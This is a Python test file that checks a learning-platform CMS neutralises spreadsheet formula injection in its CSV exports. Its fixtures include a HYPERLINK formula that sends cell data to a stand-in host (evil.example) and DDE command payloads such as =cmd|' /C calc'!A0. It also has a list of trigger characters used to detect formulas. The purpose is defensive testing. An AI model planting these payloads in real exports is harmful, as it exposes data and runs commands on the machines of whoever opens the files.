"""Exports never hand a spreadsheet program a formula: every cell a learner,
mentor or staff member typed is neutralised (cms.spreadsheets) in the PARS
export, the transcript CSV and Wagtail's own report exports."""

import csv
import io

from django.urls import reverse

import pytest

from cms import spreadsheets
from tests.factories import (
    GuidePageFactory,
    InstitutionFactory,
    LearnerProfileFactory,
    LearningPathPageFactory,
    UserFactory,
)

from .conftest import complete

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
TRIGGERS = tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+447700900123", "+447700900123"),  # a plain number stays a number
        ("+ABIM 123", "'+ABIM 123"),
        ("-2+3", "'-2+3"),
        ("-1.5", "-1.5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("O'Brien-Smith", "O'Brien-Smith"),
        ("Maya R. Chen, MD", "Maya R. Chen, MD"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise(typed, exported):
    assert spreadsheets.neutralise(typed) == exported


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text):
    live = [c for c in cells(text) if c.lstrip(" ").startswith(TRIGGERS)]
    assert not live, live


@pytest.mark.django_db
def test_pars_export_neutralises_names_and_board_ids(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name="@Institution")
    path = LearningPathPageFactory(title="=Path", slug="path", institution=institution)
    learner = UserFactory(username="doctor-x")
    LearnerProfileFactory(
        user=learner, full_name=HOSTILE_NAME, board_id="+ABIM-1", pars_consent=True
    )
    with django_capture_on_commit_callbacks(execute=True):
        complete(learner, path)
    staff = UserFactory(username="staff-x", groups=["Institution staff"])
    institution.staff.add(staff)
    client.force_login(staff)

    text = client.get(reverse("learning_pars_export")).content.decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["learner_name"] == "'" + HOSTILE_NAME
    assert row["board_id"] == "'+ABIM-1"
    assert row["activity"] == "'=Path"
    assert row["credits"] == "1.25"
    assert_no_formula(text)


@pytest.mark.django_db
def test_transcript_csv_neutralises_titles(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name="-Institution")
    path = LearningPathPageFactory(title="=cmd|' /C calc'!A0", slug="path", institution=institution)
    learner = UserFactory(username="doctor-y")
    LearnerProfileFactory(user=learner, full_name="Yara Young")
    with django_capture_on_commit_callbacks(execute=True):
        complete(learner, path)
    client.force_login(learner)
    text = client.get("/me/transcript/transcript.csv").content.decode()
    assert "'=cmd|' /C calc'!A0" in cells(text)
    assert "'-Institution" in cells(text)
    assert_no_formula(text)


@pytest.mark.django_db
def test_wagtail_report_csv_is_neutralised(client):
    from django.utils import timezone

    GuidePageFactory(
        title="=2+5+cmd|' /C calc'!A0", slug="formula", last_published_at=timezone.now()
    )
    admin = UserFactory(username="root", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.get("/admin/reports/aging-pages/?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert "'=2+5+cmd|' /C calc'!A0" in cells(text)
    assert_no_formula(text)
